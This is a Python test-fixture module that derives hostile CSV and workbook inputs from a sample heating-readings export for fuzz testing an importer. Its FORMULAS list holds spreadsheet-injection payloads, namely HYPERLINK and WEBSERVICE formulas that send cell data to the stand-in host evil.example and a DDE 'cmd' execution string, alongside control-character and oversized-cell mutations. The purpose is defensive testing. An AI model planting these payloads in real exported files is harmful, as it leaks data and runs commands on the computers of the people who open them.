"""The good files the hostile ones are made from — the sample export (tests/fixtures/samples) as CSV
text and as a workbook's typed cells — and what is done to their cells: formulas, control characters,
huge texts."""

from __future__ import annotations

import random
from functools import cache
from pathlib import Path

from tests.hostile.packages import MEGABYTE, Cell

SAMPLES = Path(__file__).parents[1] / "fixtures" / "samples"
REQUEST = SAMPLES / "settlement-heating.json"
CSV_SAMPLE = SAMPLES / "readings-heating-es.csv"


@cache
def sample_rows() -> tuple[tuple[str, ...], ...]:
    """The sample export's rows as text, as its CSV holds them (Windows-1252, ';', decimal comma)."""
    text = CSV_SAMPLE.read_bytes().decode("cp1252")
    return tuple(tuple(line.split(";")) for line in text.splitlines() if line)


def typed_rows() -> list[list[Cell]]:
    """The sample as a workbook holds it: readings as numbers."""
    header, *body = sample_rows()
    rows: list[list[Cell]] = [list(header)]
    rows.extend([unit, meter, owner, _number(a), _number(b), day] for unit, meter, owner, a, b, day in body)
    return rows


def _number(text: str) -> float:
    return float(text.replace(".", "").replace(",", "."))


def good_csv(marker: str = "") -> bytes:
    """The sample itself; `marker` makes the bytes of one copy differ from another's."""
    lines = [";".join(row) for row in sample_rows()]
    if marker:
        lines.append(f"Total {marker};;;;;")
    return ("\r\n".join(lines) + "\r\n").encode("cp1252")


def csv_bytes(rows: list[list[str]], encoding: str = "cp1252") -> bytes:
    return ("\r\n".join(";".join(row) for row in rows) + "\r\n").encode(encoding, errors="replace")


def text_rows() -> list[list[str]]:
    return [list(row) for row in sample_rows()]


def cells(
    rng: random.Random, rows: list[list[Cell]], count: int, header: bool = True
) -> list[tuple[int, int]]:
    first = 0 if header else 1
    return [(rng.randrange(first, len(rows)), rng.randrange(len(rows[0]))) for _ in range(count)]


FORMULAS = [
    'HYPERLINK("http://evil.example/?leak="&A1,"Pulse aquí")',
    "cmd|' /C calc'!A0",
    'WEBSERVICE("http://evil.example/"&B2)',
    "1+1",
    "SUM(1;2)",
]
# How a formula reaches a file as text: "=…", and the other characters spreadsheet programs read as one.
LEADS = ["=", "+", "-", "@", "\t=", "\r="]
CONTROLS = ["\x00", "\x01", "\x07", "\x08", "\x0b", "\x0c", "\x1b", "\x7f", "\u2028", "\ufeff", "\x85"]


def formula_texts(rng: random.Random, rows: list[list[Cell]]) -> None:
    for r, c in cells(rng, rows, rng.randint(2, 6)):
        rows[r][c] = rng.choice(LEADS) + rng.choice(FORMULAS)


def control_texts(rng: random.Random, rows: list[list[Cell]]) -> None:
    for r, c in cells(rng, rows, rng.randint(2, 6)):
        text = str(rows[r][c])
        at = rng.randrange(len(text) + 1)
        rows[r][c] = text[:at] + "".join(rng.choices(CONTROLS, k=rng.randint(1, 3))) + text[at:]


def huge(rng: random.Random, rows: list[list[Cell]]) -> None:
    r, c = cells(rng, rows, 1)[0]
    rows[r][c] = rng.choice("x9,.;") * rng.choice([1_001, 40_000, 2 * MEGABYTE])
